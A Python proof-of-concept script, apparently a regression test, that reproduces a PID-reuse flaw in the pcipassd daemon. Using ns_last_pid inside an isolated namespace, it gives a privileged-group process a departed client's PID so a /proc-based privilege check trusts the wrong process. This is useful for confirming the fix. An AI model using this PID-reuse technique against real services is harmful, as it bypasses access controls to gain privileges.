#!/usr/bin/env python3
"""The pid-reuse attack on pcipassd's privilege check (issue: privilege through PID reuse).

  pidreuse.py PCIPASSD ROOT STATE  (run as root in a new pid namespace with its own /proc)

Starts pcipassd --read-only with SocketGroup=4242. An unprivileged process A connects, hands the
connection to its child B and exits; a process C with A's pid (ns_last_pid) is made a member
of group 4242. B then asks for a Claim. Prints two lines: the error B got (a daemon that looks
at /proc/<pid> sees C and lets it past the privilege check, to ReadOnly; one that kept the
connect-time credentials says PermissionDenied), and the error C gets on its own connection
(ReadOnly: the group does grant privilege, so the first line is not a matter of luck).
"""
import json
import os
import signal
import socket
import subprocess
import sys
import time

GROUP = 4242
NOBODY = 65534


def call(sock, method, params):
    sock.sendall(json.dumps({"method": method, "parameters": params}).encode() + b"\0")
    buf = b""
    while b"\0" not in buf:
        chunk = sock.recv(65536)
        if not chunk:
            return "closed"
        buf += chunk
    return json.loads(buf.split(b"\0")[0]).get("error", "ok")


def main(pcipassd, root, state):
    os.makedirs(state, exist_ok=True)
    conf = os.path.join(state, "pcipassd.conf")
    with open(conf, "w") as f:
        f.write("[Daemon]\nSocketGroup=%d\n" % GROUP)
    os.chmod(state, 0o755)
    path = os.path.join(state, "io.pcipass")
    d = subprocess.Popen([pcipassd, "--sysfs-root", root, "--socket", path, "--read-only",
                          "--state-dir", os.path.join(state, "st"), "--config", conf,
                          "--policy-dir", os.path.join(state, "none")],
                         stderr=open(os.path.join(state, "daemon.log"), "w"))
    for _ in range(400):
        if os.path.exists(path):
            break
        time.sleep(0.05)
    claim = {"address": "0000:00:03.0"}

    go_r, go_w = os.pipe()
    res_r, res_w = os.pipe()
    pid_r, pid_w = os.pipe()
    a = os.fork()
    if a == 0:  # A: nobody, connects, leaves the connection to B, exits
        os.setgroups([])
        os.setgid(NOBODY)
        os.setuid(NOBODY)
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        s.connect(path)
        if os.fork() == 0:  # B
            os.read(go_r, 1)
            os.write(res_w, call(s, "io.pcipass.Claim", claim).encode())
            os._exit(0)
        os._exit(0)
    os.waitpid(a, 0)

    # C: A's pid again, a member of the group.
    c = None
    for _ in range(50):
        with open("/proc/sys/kernel/ns_last_pid", "w") as f:
            f.write(str(a - 1))
        c = os.fork()
        if c == 0:
            os.setgroups([GROUP])
            os.setgid(NOBODY)
            os.setuid(NOBODY)
            s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            s.connect(path)
            os.write(pid_w, call(s, "io.pcipass.Claim", claim).encode())
            time.sleep(600)
            os._exit(0)
        if c == a:
            break
        os.kill(c, signal.SIGKILL)
        os.waitpid(c, 0)
        c = None
    if c is None:
        print("no pid reuse")
        return 1
    own = os.read(pid_r, 200).decode()
    os.write(go_w, b"x")
    print(os.read(res_r, 200).decode())
    print(own)
    os.kill(c, signal.SIGKILL)
    d.terminate()
    d.wait()
    return 0


if __name__ == "__main__":
    sys.exit(main(*sys.argv[1:4]))
